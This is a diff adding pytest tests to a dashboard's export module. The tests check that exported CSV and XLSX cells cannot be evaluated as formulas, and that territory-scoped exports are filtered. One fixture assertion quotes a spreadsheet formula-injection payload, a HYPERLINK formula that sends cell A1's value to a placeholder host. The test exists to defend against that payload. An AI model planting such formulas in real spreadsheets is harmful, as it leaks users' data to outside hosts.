@@ -6,16 +6,19 @@ holds only the geography and the reference tables, export again, compare.
 
 from __future__ import annotations
 
+import csv
+import io
 import shutil
 from pathlib import Path
 
 import duckdb
+import openpyxl
 import pandas as pd
 import pytest
 
 from dashboard.db import SCHEMA_SQL, Database
 from dashboard.imports import LOAD_ORDER, TEMPLATES_BY_ENTITY, describe, export_entity, import_file, import_workbook
-from dashboard.imports.export import entity_frame, export_workbook
+from dashboard.imports.export import entity_frame, export_workbook, neutralised, scoped_row_count
 from tests.imports.conftest import FIXTURES
 
 # Reference tables that no template imports: a fresh database gets them from the source.
@@ -111,3 +114,75 @@ def test_csv_cells_are_french_and_xlsx_cells_typed(db_file: Path, tmp_path: Path
     companies = pd.read_excel(tmp_path / "entreprises.xlsx", dtype={"code_commune": object})
     assert companies.loc[0, "code_commune"] == "41269"  # commune codes stay text: no lost leading zero
     assert companies.loc[0, "latitude"] == pytest.approx(47.793)
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_no_exported_cell_can_be_evaluated_as_a_formula(db_file: Path, tmp_path: Path):
+    db = Database(db_file)
+    source = FIXTURES / "companies_formula_text.csv"
+    assert import_file(db, "companies", source).ok
+    stored = dict(db.query_rows("SELECT company_id, name FROM company WHERE company_id LIKE 'E-02%'"))
+    assert stored["E-0201"].startswith("=HYPERLINK(")  # imported as written: it is text
+    export_entity(db, "companies", tmp_path / "entreprises.csv")
+    export_entity(db, "companies", tmp_path / "entreprises.xlsx")
+    db.close()
+
+    text = (tmp_path / "entreprises.csv").read_text(encoding="utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
+    assert [cell for cell in cells if cell[:1] in FORMULA_STARTS] == []
+    assert '\'=HYPERLINK("http://exemple.invalid/?x="&A1;"Cliquez")' in cells and "'=1+1" in cells
+
+    workbook = openpyxl.load_workbook(tmp_path / "entreprises.xlsx")
+    written = [cell for row in workbook.active.iter_rows() for cell in row if cell.value is not None]
+    assert [cell.coordinate for cell in written if cell.data_type == "f"] == []
+    risky = [cell for cell in written if isinstance(cell.value, str) and cell.value[:1] in FORMULA_STARTS]
+    assert len(risky) == 5 and all(cell.quotePrefix for cell in risky)  # Excel keeps them text when edited
+    assert {cell.value for cell in risky} >= set(stored.values())  # as typed, without any apostrophe
+
+    # The apostrophe is the export's: importing the CSV again gives the names as they were.
+    fresh_path = tmp_path / "fresh.duckdb"
+    shutil.copyfile(db_file, fresh_path)
+    fresh = Database(fresh_path)
+    with fresh.transaction() as cursor:
+        cursor.execute("DELETE FROM company WHERE company_id LIKE 'E-02%'")
+    only_new = tmp_path / "companies.csv"
+    only_new.write_text(
+        "\n".join(line for line in text.splitlines() if line.startswith(("identifiant", "E-02"))), encoding="utf-8"
+    )
+    assert import_file(fresh, "companies", only_new).ok
+    assert dict(fresh.query_rows("SELECT company_id, name FROM company WHERE company_id LIKE 'E-02%'")) == stored
+    fresh.close()
+
+
+@pytest.mark.parametrize("text", ["-3", "+1 234,5", "-0,5", "12,5"])
+def test_numbers_written_as_text_are_not_taken_for_formulas(text: str):
+    assert neutralised(text) == text
+
+
+EXPORT_TERRITORY = "epci:200072072"  # the demo's Vendômois
+
+
+def test_an_export_for_a_territory_holds_only_that_territorys_rows(source_path: Path):
+    db = Database(source_path, read_only=True)
+    communes = {row[0] for row in db.query_rows(
+        "SELECT commune_id FROM territory_commune WHERE territory_id = $t", {"t": EXPORT_TERRITORY}
+    )}  # fmt: skip
+    companies = entity_frame(db, TEMPLATES_BY_ENTITY["companies"], scope=EXPORT_TERRITORY)
+    every_company = entity_frame(db, TEMPLATES_BY_ENTITY["companies"])
+    assert 0 < len(companies) < len(every_company)
+    located = dict(db.query_rows("SELECT company_id, commune_id FROM company"))
+    own_programme = set(db.query_rows(  # a company also counts when a programme of the territory diagnosed it
+        "SELECT company_id FROM scope_companies($scope)", {"scope": EXPORT_TERRITORY}
+    ))  # fmt: skip
+    assert all(located[company] in communes or (company,) in own_programme for company in companies["identifiant"])
+    stats = entity_frame(db, TEMPLATES_BY_ENTITY["artisan_stats"], scope=EXPORT_TERRITORY)
+    assert len(stats) > 0 and {"commune:" + code for code in stats["code_commune"]} <= communes
+    for entity in ("flows", "synergies", "events", "indicator_values"):
+        scoped = len(entity_frame(db, TEMPLATES_BY_ENTITY[entity], scope=EXPORT_TERRITORY))
+        assert scoped == scoped_row_count(db, entity, EXPORT_TERRITORY)
+        whole = len(entity_frame(db, TEMPLATES_BY_ENTITY[entity]))
+        # the demo's declared indicator values are all the Vendômois programme's
+        assert scoped < whole if entity != "indicator_values" else 0 < scoped <= whole, entity
+    db.close()
